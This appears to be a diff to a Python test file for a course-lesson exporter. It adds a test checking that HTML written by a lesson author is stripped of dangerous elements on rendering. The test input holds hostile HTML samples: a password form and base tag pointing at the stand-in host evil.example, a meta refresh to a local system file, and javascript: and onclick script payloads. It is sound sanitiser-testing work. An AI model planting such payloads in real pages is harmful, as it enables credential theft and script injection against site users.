@@ -6,12 +6,15 @@ import ast
 import re
 import subprocess
 import sys
+from pathlib import Path
 
 from app.exports.convert import to_html, to_markdown, to_script
 from app.exports.latest_runs import CellRun
 from app.exports.notebook import build_notebook
+from app.lessons.document import parse_document
+from app.lessons.render import render_lesson
 from runners.wire.protocol import EVENT_ADAPTER
-from tests.factories.lesson_source import CELL, FRONT_MATTER, render_body
+from tests.factories.lesson_source import CELL, FRONT_MATTER, lesson_text, render_body
 
 PAGE = "https://example.org/en/courses/course/this"
 BODY = f"# The lesson\n\nIt is $x^2$ & *more*.\n\n$$\n\\frac{{1}}{{N}}\n$$\n\n{CELL}"
@@ -58,6 +61,26 @@ def test_what_a_learners_code_displayed_runs_nothing_in_the_page() -> None:
     assert "onerror" not in page
     assert "evil.example" not in page
     assert "alert(" not in page
+
+
+def test_html_of_an_author_leads_to_no_other_page_and_sends_nothing() -> None:
+    html = (
+        '<meta http-equiv="refresh" content="0;url=file:///etc/hostname">\n'
+        '<base href="https://evil.example/"><form action="https://evil.example/"><input name="password"></form>\n'
+        '<a href="data:text/html,x">x</a> <a href="javascript:alert(5)">y</a> <p onclick="alert(6)">words</p>\n'
+    )
+    details = "<details><summary>More</summary>\n\n* [ ] open\n\n</details>\n"
+    document = parse_document(lesson_text(f"{BODY}\n{html}\n{details}"), "en")
+    path = Path("course/this/lesson.md")
+    lesson = render_lesson(document, course="course", slug="this", languages=("en",), path=path, digest="d")
+    page = to_html(build_notebook(lesson, PAGE))
+
+    assert not re.search(
+        r"<(?:meta http-equiv=.refresh|base|form)|evil\.example|alert\(|data:text|name=.password", page
+    )
+    assert "<p>words</p>" in page
+    assert "<details><summary>More</summary>" in page
+    assert re.search(r'<input[^>]* type="checkbox"', page)
 
 
 def test_html_that_takes_long_to_clean_is_shown_as_text() -> None:
